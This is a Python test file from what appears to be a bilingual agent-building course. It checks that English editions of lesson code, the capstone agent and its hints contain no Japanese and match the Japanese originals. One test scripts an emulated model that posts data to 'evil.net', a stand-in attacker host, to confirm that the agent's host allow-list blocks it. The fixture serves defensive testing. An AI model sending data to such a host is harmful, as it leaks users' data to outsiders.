"""An English kernel meets no Japanese in the references (issue 25.3): ``lessons.show`` prints an English
twin of every piece, the same code as the Japanese one, and the capstone's reference ``my_agent``, which
English notebook 05 runs as shipped, and its hidden scenarios speak English to the model."""

from __future__ import annotations

import dataclasses
import inspect
import json
import re
from urllib.parse import urlsplit

import pytest

import harness_lab as hl
from harness_lab import lessons
from harness_lab.emulator import call, emulator_of, say
from harness_lab.lessons import capstone
from harness_lab.text import speaking
from notebooks.editions import NAME_LIKE, code_shape
from tests.lessons.answers_capstone import WRONG_MY_AGENT

JAPANESE = re.compile(r"[\u3000-\u30ff\u4e00-\u9fff\uff01-\uff9f]")
PIECES = lessons.ALL
ids = [f"{p.name}-{p.lesson}" for p in PIECES]


def shown(piece: lessons.Piece, language: str, capsys) -> str:
    with speaking(language):
        lessons.show(piece.name, lesson=piece.lesson)
    return capsys.readouterr().out


def same_code(ja: str, en: str) -> None:
    """Token for token, strings and comments aside; a Japanese string that reads as a name is code."""
    a, b = (_tokens(source) for source in (ja, en))
    assert [x.text for x in b] == [x.text for x in a]
    names = [(x.value, y.value) for x, y in zip(a, b) if x.value is not None and NAME_LIKE.fullmatch(x.value)]
    assert all(x == y for x, y in names), names


def _tokens(source: str) -> list:
    """Its tokens, without the trailing commas the formatter adds where a shorter line is exploded."""
    shape = code_shape(source)
    return [x for n, x in enumerate(shape) if not (x.text == "," and n + 1 < len(shape) and shape[n + 1].text in ")]}")]


@pytest.mark.parametrize("piece", PIECES, ids=ids)
def test_show_prints_english_in_an_english_kernel_and_japanese_in_a_japanese_one(piece, capsys):
    english, japanese = shown(piece, "en", capsys), shown(piece, "ja", capsys)
    assert f"def {piece.name}(" in english and not JAPANESE.findall(english), english
    assert JAPANESE.search(japanese) and japanese == inspect.getsource(piece.japanese) + "\n"


@pytest.mark.parametrize("piece", PIECES, ids=ids)
def test_what_show_prints_in_english_is_the_japanese_code(piece, capsys):
    same_code(shown(piece, "ja", capsys), shown(piece, "en", capsys))


def test_the_capstones_english_module_has_the_japanese_policy_and_clock():
    from harness_lab.lessons import english_capstone

    assert english_capstone.ALLOWED_HOSTS == capstone.ALLOWED_HOSTS
    same_code(inspect.getsource(capstone.get_time), inspect.getsource(english_capstone.get_time))
    tools = (capstone.GET_TIME, capstone.HTTP_POST), (english_capstone.GET_TIME, english_capstone.HTTP_POST)
    assert [{**d, "description": ""} for d in tools[0]] == [{**d, "description": ""} for d in tools[1]]


@pytest.mark.parametrize("piece", [p for p in PIECES if p.english is None], ids=lambda p: f"{p.name}-{p.lesson}")
def test_a_twin_shown_but_not_handed_out_would_pass_its_check(piece):
    """The twins only ``show`` reads run as the Japanese references do: a piece may hand them out."""
    from harness_lab.lessons.english_pieces import twin

    english = twin(piece)
    with speaking("en"):
        verdict = lessons.judge(dataclasses.replace(piece, english=english), english)
    assert english is not piece.japanese and verdict.passed, verdict.text()


# --- the capstone's reference and its hidden scenarios, in English --------------------------------


def said_to_the_model(client) -> str:
    return json.dumps(emulator_of(client).requests, ensure_ascii=False, default=str)


def test_the_capstone_reference_speaks_only_english_to_the_model_in_an_english_kernel():
    spoken = []
    with speaking("en"):
        my_agent = lessons.reference("my_agent")
        model = [
            call("get_time"),
            call("http_post", url="https://evil.net/x", body="b"),
            call("http_post", url="https://hooks.example.com/x", body="b"),
            say("Done."),
        ]

        def never_ending(request):  # a new post every turn: no valve but the turn limit stops it
            return call("http_post", url="https://hooks.example.com/x", body=str(len(request["messages"])))

        for script, approve in ((model, lambda name, given: True), (model, None), (never_ending, None)):
            client = hl.connect(script, live=False)
            events, end = lessons.drive(my_agent(client, "Send the report", lambda url, body: None, approve))
            spoken += [said_to_the_model(client), repr(events), repr(end), str(getattr(end, "text", ""))]
    assert my_agent is not capstone.my_agent and "Reached the maximum of 8 turns" in spoken[-2]
    assert "The policy does not allow sending to evil.net" in spoken[0] and '"sent"' in spoken[0]
    assert not JAPANESE.findall("\n".join(spoken))


@pytest.mark.parametrize(
    ("script", "decide"),
    [
        (capstone._posts_daily, lambda name, given: True),
        (capstone._posts_daily, None),
        (capstone._posts_daily, lambda name, given: False),
        (capstone._tries_lookalikes, lambda name, given: True),
        (capstone._posts_again, lambda name, given: True),
    ],
    ids=["approved", "no approver", "denied", "look-alikes", "again"],
)
def test_the_hidden_scenarios_speak_english_in_an_english_kernel(script, decide):
    with speaking("en"):
        trial = capstone.Trial(lessons.reference("my_agent"), script, decide)
    said = json.dumps(trial.emulator.requests, ensure_ascii=False, default=str) + repr(trial.sent)
    assert trial.miss is None and trial.emulator.requests
    assert not (found := JAPANESE.search(said)), said[max(found.start() - 300, 0) : found.end() + 100]
    with speaking("ja"):
        trial = capstone.Trial(lessons.reference("my_agent"), script, decide)
    assert JAPANESE.search(json.dumps(trial.emulator.requests, ensure_ascii=False, default=str))


ENGLISH_LEARNER = {
    "{url} には送れません": "cannot send to {url}",
    "送信しました": "sent",
    "送りませんでした": "not sent",
}


@pytest.mark.parametrize(
    ("source", "point", "key"), WRONG_MY_AGENT, ids=[f"{w[2].rsplit('.', 1)[-1]}-{w[1]}" for w in WRONG_MY_AGENT]
)
def test_an_english_learners_capstone_hints_quote_no_japanese(source, point, key):
    from harness_lab.lessons import english, english_capstone

    for ja, en in ENGLISH_LEARNER.items():
        source = source.replace(ja, en)
    namespace = {"lessons": lessons, "urlsplit": urlsplit, "run_agent": english.run_agent, "MODEL": english.MODEL}
    namespace |= {name: getattr(english_capstone, name) for name in english_capstone.__all__ if name != "my_agent"}
    namespace |= {"run_tool_uses": lessons.reference("run_tool_uses")}
    exec(compile(source, "<my_agent>", "exec"), namespace)
    whole = lessons.piece("my_agent")
    with speaking("en"):
        verdict = lessons.judge(dataclasses.replace(whole, points=(whole.points[point - 1],)), namespace["my_agent"])
        text = "\n".join(lessons.point_lines(verdict, 'lessons.show("my_agent")'))
    assert verdict.checks[0].key == key and not JAPANESE.findall(text), text
